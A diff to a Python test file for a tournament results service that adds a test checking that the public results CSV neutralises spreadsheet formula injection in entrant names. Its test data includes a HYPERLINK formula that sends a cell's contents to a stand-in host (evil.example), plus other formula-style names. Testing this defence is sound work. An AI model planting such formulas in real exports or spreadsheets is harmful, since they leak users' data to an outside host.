@@ -6,7 +6,9 @@ crowd is limited; the results sheet with its downloads."""
 
 from __future__ import annotations
 
+import csv
 import http.client
+import io
 import json
 import re
 import time
@@ -153,6 +155,30 @@ def test_the_results_sheet_and_its_downloads(hub, browser):
     for e in ("1", "2", "3", "4"):
         hub.svc.act("count", {"entrant": e, "puzzle": 1, "placed": 100 + int(e)}, who="Anna")
     expect(page.locator("#results-state")).to_have_text("Final", timeout=10_000)   # reloaded by itself
+
+
+def test_the_public_results_csv_writes_a_name_that_is_a_formula_as_text(tmp_path):
+    """GET /results.csv (issue #33 item 5): an entrant's name that a
+    spreadsheet would run (= + - @) is written with a quote in front, in
+    double quotes, and csv_cells.read_cell gives it back."""
+    from tabletimer.hub.event.csv_cells import read_cell
+
+    names = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+1+1", "-2+3", "@SUM(1+1)"]
+    entrants = "id,name,eligible\n" + "".join(
+        '{},"{}",yes\n'.format(i, n.replace('"', '""')) for i, n in enumerate(names, 1))
+    h = WebHub(tmp_path, entrants=entrants,
+               stations="board,button,table,entrant\nB1,1,Table 1,1\nB1,2,Table 1,2\nB2,1,Table 2,3\nB2,2,Table 2,4\n")
+    try:
+        h.start(ago_ms=121 * 60_000)
+        status, body, _ = get(h, "/results.csv")
+    finally:
+        h.close()
+    text = body.decode("utf-8-sig")
+    assert status == 200 and '"\'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"' in text
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert sorted(r["name"] for r in rows) == sorted("'" + n for n in names)
+    assert not [c for r in rows for c in r.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert sorted(read_cell(r["name"]) for r in rows) == sorted(names)
 
 
 def test_the_results_sheet_reloads_for_a_change_stored_while_it_connected(hub, browser):
